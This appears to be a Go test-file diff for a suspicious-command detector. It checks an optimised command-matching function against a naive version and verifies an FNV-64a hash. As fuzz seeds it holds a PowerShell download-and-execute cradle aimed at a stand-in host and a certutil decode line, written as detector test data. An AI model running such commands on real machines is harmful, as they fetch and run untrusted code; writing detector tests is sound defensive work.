@@ -1,6 +1,8 @@
 package explain
 
 import (
+	"hash/fnv"
+	"slices"
 	"strings"
 	"testing"
 
@@ -186,5 +188,68 @@ func TestProseAndFragments(t *testing.T) {
 	}
 	if blobStart("atob('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=')") >= 30 {
 		t.Error("blobStart missed a Base64 run")
+	}
+}
+
+// commandsInNaive is commandsIn as NewOffline first wrote it: one
+// strings.Contains per vocabulary entry.
+func commandsInNaive(lower string) []uint16 {
+	var out []uint16
+	for i, c := range commands {
+		if strings.Contains(lower, c.key) {
+			out = append(out, uint16(i))
+		}
+	}
+	return out
+}
+
+func TestCommandsInMatchesContains(t *testing.T) {
+	check := func(lower string) {
+		t.Helper()
+		got, want := commandsIn(lower), commandsInNaive(lower)
+		if !slices.Equal(got, want) || (got == nil) != (want == nil) {
+			t.Fatalf("%q: got %v, want %v", lower, got, want)
+		}
+	}
+	texts := []string{"", "i", "iex", "ie"}
+	for _, c := range commands {
+		texts = append(texts, c.key, c.key[:len(c.key)-1], "x"+c.key+"y", c.key+c.key)
+	}
+	for _, ind := range indicators.Default().Indicators() {
+		texts = append(texts, asciiLower(strings.Join(ind.TruePositives, "\n")))
+		texts = append(texts, ind.TruePositives...)
+		texts = append(texts, ind.FalsePositives...)
+	}
+	for _, s := range texts {
+		check(s)
+		check(asciiLower(s))
+	}
+	// Every key next to every other: overlapping and adjacent matches.
+	all := make([]string, len(commands))
+	for i, c := range commands {
+		all[i] = c.key
+	}
+	check(strings.Join(all, ""))
+	check(strings.Join(all, " "))
+}
+
+func FuzzCommandsIn(f *testing.F) {
+	f.Add("iex (new-object net.webclient).downloadstring('http://x')")
+	f.Add("certutil -decode a b | rev")
+	f.Fuzz(func(t *testing.T, s string) {
+		got, want := commandsIn(s), commandsInNaive(s)
+		if !slices.Equal(got, want) || (got == nil) != (want == nil) {
+			t.Fatalf("%q: got %v, want %v", s, got, want)
+		}
+	})
+}
+
+func TestFNV64aMatchesHashFNV(t *testing.T) {
+	for _, s := range []string{"", "a", strings.Repeat("0123456789abcdef", 4), "\xff\x00é"} {
+		h := fnv.New64a()
+		h.Write([]byte(s))
+		if got, want := fnv64a(s), h.Sum64(); got != want {
+			t.Errorf("%q: got %x, want %x", s, got, want)
+		}
 	}
 }
